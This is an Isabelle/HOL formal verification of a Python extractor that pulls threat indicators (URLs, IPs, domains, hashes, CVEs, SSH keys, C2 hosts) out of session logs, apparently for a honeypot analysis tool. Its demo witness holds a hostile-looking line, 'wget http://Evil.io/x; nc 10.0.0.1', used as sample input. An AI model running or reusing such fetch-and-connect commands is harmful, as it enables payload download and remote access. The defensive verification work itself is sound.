(* ===== verification/Iocs.thy ===== *)
theory Iocs
  imports Py_Regex Py_Net Py_Value
begin

text \<open>
  \<^verbatim>\<open>analyze/iocs.py\<close>: the one extractor of indicators, used for the session's fields, for the
  ledger's \<open>shell_reference\<close> rows and for the callbacks inside served files.  \<open>ioc_extract\<close> raises
  exactly when \<^verbatim>\<open>urlparse\<close> does on one of the URLs.
\<close>

section \<open>Patterns\<close>

definition digits_13 :: rx where
  "digits_13 = rrange 1 3 (In [Digit])"

definition RE_URL :: rx where
  "RE_URL = rseq [RWordB,
     ralt [RSeq (rlit ''http'') (ropt (rlit ''s'')), rlit ''ftp'', rlit ''tftp''], rlit ''://'',
     rplus (NotIn (Space # oneof ''\"'' @ [One 39, One 96] @ oneof ''<>|''))]"

definition RE_IPV4 :: rx where
  "RE_IPV4 = rseq [RWordB, RRep 3 (Some 3) True (RSeq digits_13 (rlit ''.'')), digits_13,
     ropt (RSeq (rlit '':'') (rrange 1 5 (In [Digit]))), RWordB]"

definition RE_IPV6 :: rx where
  "RE_IPV6 = rseq [RWordB, RRep 4 None True (RSeq (rrange 1 4 (In hex_items)) (rlit '':'')),
     rrange 1 4 (In hex_items), RWordB]"

definition RE_DOMAIN :: rx where
  "RE_DOMAIN = rseq [RWordB,
     RRep 1 None True
       (rseq [RChr (In alnum_items),
              ropt (RSeq (rrange 0 61 (In (alnum_items @ oneof ''-''))) (RChr (In alnum_items))),
              rlit ''.'']),
     rmin 2 (In [Rng 97 122, Rng 65 90]), RWordB]"

definition re_hex :: "nat \<Rightarrow> rx" where
  "re_hex n = rseq [RWordB, rrange n n (In hex_items), RWordB]"

definition RE_MD5 :: rx where "RE_MD5 = re_hex 32"
definition RE_SHA1 :: rx where "RE_SHA1 = re_hex 40"
definition RE_SHA256 :: rx where "RE_SHA256 = re_hex 64"

definition RE_CVE :: rx where
  "RE_CVE = rseq [RWordB, rlit ''CVE-'', rrange 4 4 (In [Digit]), rlit ''-'',
     rrange 4 7 (In [Digit]), RWordB]"

definition ssh_key_type :: rx where
  "ssh_key_type = RAlt
     (RSeq (rlit ''ssh-'') (ralt [rlit ''rsa'', rlit ''ed25519'', rlit ''dss'']))
     (RSeq (rlit ''ecdsa-sha2-nistp'') (ralt [rlit ''256'', rlit ''384'', rlit ''521'']))"

definition RE_SSHKEY :: rx where
  "RE_SSHKEY = rseq [ssh_key_type, rplus (In [Space]),
     RGrp 1 (rmin 64 (In (alnum_items @ oneof ''+/='')))]"

section \<open>Operations\<close>

record ioc_bundle =
  b_ips :: "pystr list"
  b_urls :: "pystr list"
  b_domains :: "pystr list"
  b_hostnames :: "pystr list"
  b_file_hashes :: "pystr list"
  b_cve_ids :: "pystr list"
  b_ssh_key_sha1s :: "pystr list"

definition dedupe :: "pystr list \<Rightarrow> pystr list" where
  "dedupe xs = dedupe_acc [] (filter (\<lambda>x. x \<noteq> []) xs)"

definition c2_hosts :: "ioc_bundle \<Rightarrow> pystr list" where
  "c2_hosts b = dedupe (b_ips b @ b_hostnames b)"

definition is_ip :: "pystr \<Rightarrow> bool" where
  "is_ip token = (case ip_address token of Inr _ \<Rightarrow> True | Inl _ \<Rightarrow> False)"

definition etld1 :: "pystr \<Rightarrow> pystr option" where
  "etld1 host =
     (if is_ip host then None
      else (let parts = split_on 46 host in
            if 2 \<le> length parts
            then Some (py_join (u ''.'') (drop (length parts - 2) parts)) else None))"

definition strip_url_punct :: "pystr \<Rightarrow> pystr" where
  "strip_url_punct url = rstrip_if (\<lambda>c. c \<in> set (u '').],};\"'' @ [39, 62])) url"

definition ascii_bytes :: "pystr \<Rightarrow> bytes" where
  "ascii_bytes s = map word_of_int s"

fun has_sub :: "pystr \<Rightarrow> pystr \<Rightarrow> bool" where
  "has_sub p [] = (p = [])"
| "has_sub p (c # s) = (startswith (c # s) p \<or> has_sub p s)"

text \<open>\<^verbatim>\<open>ip.split(":")[0] if ip.count(":") == 1 else ip\<close>.\<close>

definition drop_port :: "pystr \<Rightarrow> pystr" where
  "drop_port ip = (if count_list ip 58 = 1 then fst (split1 58 ip) else ip)"

text \<open>The loop over the URLs: the hosts that are IP literals, the others, and their eTLD+1 forms.\<close>

fun url_hosts :: "('x) ext_scheme \<Rightarrow> pystr list \<Rightarrow> (pystr list \<times> pystr list \<times> pystr list) res" where
  "url_hosts E [] = Inr ([], [], [])"
| "url_hosts E (x # xs) =
     rbind (if has_sub (u ''://'') x then url_host E x else Inr []) (\<lambda>h.
     rbind (url_hosts E xs) (\<lambda>(ips, hosts, doms).
       Inr (if h = [] then (ips, hosts, doms)
            else if is_ip h then (h # ips, hosts, doms)
            else (ips, h # hosts, (case etld1 h of None \<Rightarrow> doms | Some d \<Rightarrow>
                                     if d = [] then doms else d # doms)))))"

definition bare_domains :: "pystr list \<Rightarrow> pystr list" where
  "bare_domains cands =
     concat (map (\<lambda>c. if is_ip c then [] else
                        (case etld1 c of None \<Rightarrow> [] | Some d \<Rightarrow> if d = [] then [] else [d])) cands)"

definition found_urls :: "('x) ext_scheme \<Rightarrow> pystr \<Rightarrow> pystr list" where
  "found_urls E blob = map strip_url_punct (rx_findall (str_class E) True RE_URL blob)"

definition found_ips :: "('x) ext_scheme \<Rightarrow> pystr \<Rightarrow> pystr list" where
  "found_ips E blob =
     map drop_port (rx_findall (str_class E) False RE_IPV4 blob
                    @ rx_findall (str_class E) False RE_IPV6 blob)"

definition ioc_extract :: "('x) ext_scheme \<Rightarrow> pystr \<Rightarrow> pystr list \<Rightarrow> ioc_bundle res" where
  "ioc_extract E blob existing =
     (let all_urls = dedupe (existing @ found_urls E blob) in
      rbind (url_hosts E all_urls) (\<lambda>(url_ips, hosts, doms).
        Inr \<lparr>b_ips = dedupe (found_ips E blob @ url_ips),
             b_urls = all_urls,
             b_domains = dedupe (doms @ bare_domains (rx_findall (str_class E) False RE_DOMAIN blob)),
             b_hostnames = dedupe hosts,
             b_file_hashes =
               dedupe (map (py_lower E)
                 (rx_findall (str_class E) False RE_SHA256 blob
                  @ rx_findall (str_class E) False RE_SHA1 blob
                  @ rx_findall (str_class E) False RE_MD5 blob)),
             b_cve_ids = dedupe (map (py_upper E) (rx_findall (str_class E) True RE_CVE blob)),
             b_ssh_key_sha1s =
               dedupe (map (\<lambda>m. h_sha1 E (ascii_bytes (case grp m 1 of None \<Rightarrow> [] | Some k \<Rightarrow> k)))
                 (rx_finditer (str_class E) False RE_SSHKEY blob))\<rparr>))"

section \<open>Laws\<close>

lemma set_dedupe: "set (dedupe xs) = set xs - {[]}"
  by (auto simp: dedupe_def set_dedupe_acc)

lemma distinct_dedupe: "distinct (dedupe xs)"
  by (simp add: dedupe_def distinct_dedupe_acc)

lemma dedupe_id: "distinct xs \<Longrightarrow> [] \<notin> set xs \<Longrightarrow> dedupe xs = xs"
  unfolding dedupe_def by (subst filter_True) (auto simp: dedupe_acc_id)

lemma set_c2_hosts: "set (c2_hosts b) = (set (b_ips b) \<union> set (b_hostnames b)) - {[]}"
  by (simp add: c2_hosts_def set_dedupe)

lemma is_ip_iff: "is_ip s \<longleftrightarrow> is_ipv4 s \<or> is_ipv6 s"
  by (simp add: is_ip_def ip_address_def)

lemma is_ip_nonempty: "is_ip s \<Longrightarrow> s \<noteq> []"
  using ip_literal_nonempty by (simp add: is_ip_iff)

text \<open>The host of a URL as the loop sees it.\<close>

definition loop_host :: "('x) ext_scheme \<Rightarrow> pystr \<Rightarrow> pystr res" where
  "loop_host E x = (if has_sub (u ''://'') x then url_host E x else Inr [])"

lemma url_hosts_total:
  "(\<exists>r. url_hosts E xs = Inr r) \<longleftrightarrow> (\<forall>x \<in> set xs. \<exists>h. loop_host E x = Inr h)"
proof (induction xs)
  case (Cons x xs)
  have "(\<exists>r. url_hosts E (x # xs) = Inr r) \<longleftrightarrow>
        (\<exists>h. loop_host E x = Inr h) \<and> (\<exists>r. url_hosts E xs = Inr r)"
    by (cases "url_hosts E xs"; cases "loop_host E x")
      (simp_all add: loop_host_def [symmetric] split: prod.split)
  with Cons show ?case by simp
qed simp

lemma url_hosts_sets:
  "url_hosts E xs = Inr (ips, hosts, doms) \<Longrightarrow>
     set ips = {h. h \<noteq> [] \<and> is_ip h \<and> (\<exists>x \<in> set xs. loop_host E x = Inr h)} \<and>
     set hosts = {h. h \<noteq> [] \<and> \<not> is_ip h \<and> (\<exists>x \<in> set xs. loop_host E x = Inr h)}"
proof (induction xs arbitrary: ips hosts doms)
  case (Cons x xs)
  from Cons.prems obtain h r where h: "loop_host E x = Inr h" and r: "url_hosts E xs = Inr r"
    by (auto simp: loop_host_def rbind_eq_Inr)
  obtain ips' hosts' doms' where r': "r = (ips', hosts', doms')" by (cases r)
  have IH: "set ips' = {h. h \<noteq> [] \<and> is_ip h \<and> (\<exists>x \<in> set xs. loop_host E x = Inr h)}"
    "set hosts' = {h. h \<noteq> [] \<and> \<not> is_ip h \<and> (\<exists>x \<in> set xs. loop_host E x = Inr h)}"
    using Cons.IH r r' by auto
  have "ips = (if h \<noteq> [] \<and> is_ip h then h # ips' else ips')"
    "hosts = (if h \<noteq> [] \<and> \<not> is_ip h then h # hosts' else hosts')"
    using Cons.prems h r r' by (auto simp: loop_host_def split: if_splits)
  with IH h show ?case by auto
qed simp

lemma ioc_extract_fields:
  assumes "ioc_extract E blob existing = Inr b"
  obtains uips hosts doms where
    "url_hosts E (b_urls b) = Inr (uips, hosts, doms)"
    "b_urls b = dedupe (existing @ found_urls E blob)"
    "b_ips b = dedupe (found_ips E blob @ uips)" "b_hostnames b = dedupe hosts"
  using assms by (auto simp: ioc_extract_def Let_def rbind_eq_Inr)

lemma strip_url_punct_prefix: "prefix (strip_url_punct s) s"
proof -
  have "s = rev (dropWhile P (rev s)) @ rev (takeWhile P (rev s))" for P
    by (metis rev_append rev_rev_ident takeWhile_dropWhile_id)
  then show ?thesis
    unfolding strip_url_punct_def rstrip_if_def prefix_def by blast
qed

lemma drop_port_prefix: "prefix (drop_port s) s"
proof -
  have "prefix (fst (split1 c s)) s" for c
    by (induction c s rule: split1.induct) (auto split: prod.splits)
  then show ?thesis by (simp add: drop_port_def)
qed

lemma found_urls_sublist: "x \<in> set (found_urls E blob) \<Longrightarrow> sublist x blob"
  unfolding found_urls_def
  by (auto dest!: rx_findall_sublist)
    (meson prefix_imp_sublist strip_url_punct_prefix sublist_order.order_trans)

lemma found_ips_sublist: "x \<in> set (found_ips E blob) \<Longrightarrow> sublist x blob"
  unfolding found_ips_def
  by (auto dest!: rx_findall_sublist)
    (meson prefix_imp_sublist drop_port_prefix sublist_order.order_trans)+

lemmas iocs_eval [py_eval] = digits_13_def RE_URL_def RE_IPV4_def RE_IPV6_def RE_DOMAIN_def
  re_hex_def RE_MD5_def RE_SHA1_def RE_SHA256_def RE_CVE_def ssh_key_type_def RE_SSHKEY_def
  dedupe_def c2_hosts_def is_ip_def etld1_def strip_url_punct_def ascii_bytes_def drop_port_def
  bare_domains_def found_urls_def found_ips_def ioc_extract_def

section \<open>Properties\<close>

definition url_parses :: "('x) ext_scheme \<Rightarrow> pystr \<Rightarrow> bool" where
  "url_parses E x \<longleftrightarrow> (case loop_host E x of Inl _ \<Rightarrow> False | Inr _ \<Rightarrow> True)"

lemma url_parses_iff: "url_parses E x \<longleftrightarrow> (\<exists>h. loop_host E x = Inr h)"
  by (simp add: url_parses_def split: sum.split)

lemma url_parses_Nil [simp]: "url_parses E []"
  by (simp add: url_parses_def loop_host_def)

lemma ioc_extract_total:
  "(\<exists>b. ioc_extract E blob existing = Inr b) \<longleftrightarrow>
     list_all (url_parses E) (existing @ found_urls E blob)"
proof -
  have "(\<exists>b. ioc_extract E blob existing = Inr b) \<longleftrightarrow>
      (\<exists>r. url_hosts E (dedupe (existing @ found_urls E blob)) = Inr r)"
    by (cases "url_hosts E (dedupe (existing @ found_urls E blob))")
      (auto simp: ioc_extract_def Let_def split: prod.split)
  also have "\<dots> \<longleftrightarrow> (\<forall>x \<in> set (existing @ found_urls E blob) - {[]}. url_parses E x)"
    by (simp add: url_hosts_total set_dedupe url_parses_iff del: split_paired_Ex)
  also have "\<dots> \<longleftrightarrow> list_all (url_parses E) (existing @ found_urls E blob)"
    by (auto simp: list_all_iff)
  finally show ?thesis .
qed

text \<open>
  \<^verbatim>\<open>iocs.extract\<close> raises exactly when \<^verbatim>\<open>urlparse\<close> raises on one of the URLs it collects
  (those the sensor recorded and those found in the text); nothing else in it can fail.
\<close>

theorem extract_total_iff:
  "(\<exists>b. ioc_extract E blob existing = Inr b) \<longleftrightarrow>
     list_all (url_parses E) (existing @ found_urls E blob)"
  by (rule ioc_extract_total)

lemma c2_hosts_set:
  assumes "ioc_extract E blob existing = Inr b"
  shows "set (c2_hosts b) = (set (found_ips E blob) \<union>
      {h. \<exists>x \<in> set (existing @ found_urls E blob). loop_host E x = Inr h}) - {[]}"
proof -
  obtain uips hosts doms where f: "url_hosts E (b_urls b) = Inr (uips, hosts, doms)"
    "b_urls b = dedupe (existing @ found_urls E blob)"
    "b_ips b = dedupe (found_ips E blob @ uips)" "b_hostnames b = dedupe hosts"
    using assms by (rule ioc_extract_fields)
  have L: "loop_host E [] = Inr []" by (simp add: loop_host_def)
  from url_hosts_sets [OF f(1)] have
    "set uips \<union> set hosts = {h. h \<noteq> [] \<and> (\<exists>x \<in> set (b_urls b). loop_host E x = Inr h)}" by auto
  moreover have "set (b_urls b) = set (existing @ found_urls E blob) - {[]}"
    by (simp only: f(2) set_dedupe)
  moreover have "set (c2_hosts b) = (set (found_ips E blob) \<union> (set uips \<union> set hosts)) - {[]}"
    by (auto simp: set_c2_hosts f(3,4) set_dedupe)
  ultimately show ?thesis using L by auto
qed

text \<open>
  C36. The pivot list \<^verbatim>\<open>c2_hosts\<close> of a bundle has no duplicates and no empty entry, and is exactly
  the IP literals found in the text together with the hosts of the collected URLs: a host that
  appears only inside a URL is never lost, and nothing else gets in.  Host names are never IP
  literals, and every IP taken from the text is a literal part of it.
\<close>

theorem c2_hosts_exact:
  assumes "ioc_extract E blob existing = Inr b"
  shows "set (c2_hosts b) = (set (found_ips E blob) \<union>
      {h. \<exists>x \<in> set (existing @ found_urls E blob). loop_host E x = Inr h}) - {[]} \<and>
    distinct (c2_hosts b) \<and> (\<forall>h \<in> set (b_hostnames b). \<not> is_ip h) \<and>
    (\<forall>ip \<in> set (found_ips E blob). sublist ip blob)"
proof (intro conjI)
  show "set (c2_hosts b) = (set (found_ips E blob) \<union>
      {h. \<exists>x \<in> set (existing @ found_urls E blob). loop_host E x = Inr h}) - {[]}"
    using assms by (rule c2_hosts_set)
  show "distinct (c2_hosts b)"
    by (simp add: c2_hosts_def distinct_dedupe)
  show "\<forall>h \<in> set (b_hostnames b). \<not> is_ip h"
    using assms by (auto elim!: ioc_extract_fields simp: set_dedupe dest: url_hosts_sets)
  show "\<forall>ip \<in> set (found_ips E blob). sublist ip blob"
    by (blast intro: found_ips_sublist)
qed

definition demo_text :: pystr where
  "demo_text = u ''wget http://Evil.io/x; nc 10.0.0.1''"

lemma demo_extract: "\<exists>b. ioc_extract ascii_ext demo_text [u ''tftp://1.2.3.4/y''] = Inr b"
  unfolding ioc_extract_total by code_simp

theorem c2_hosts_exact_witness:
  "\<exists>b. ioc_extract ascii_ext demo_text [u ''tftp://1.2.3.4/y''] = Inr b \<and>
     set (c2_hosts b) = {u ''10.0.0.1'', u ''1.2.3.4'', u ''evil.io''}"
proof -
  obtain b where b: "ioc_extract ascii_ext demo_text [u ''tftp://1.2.3.4/y''] = Inr b"
    using demo_extract by blast
  have "found_ips ascii_ext demo_text = [u ''10.0.0.1'']"
    "found_urls ascii_ext demo_text = [u ''http://Evil.io/x'']"
    "loop_host ascii_ext (u ''http://Evil.io/x'') = Inr (u ''evil.io'')"
    "loop_host ascii_ext (u ''tftp://1.2.3.4/y'') = Inr (u ''1.2.3.4'')"
    by code_simp+
  with c2_hosts_exact [OF b, THEN conjunct1] have "set (c2_hosts b) = {u ''10.0.0.1'', u ''1.2.3.4'', u ''evil.io''}"
    by auto
  with b show ?thesis by blast
qed

end
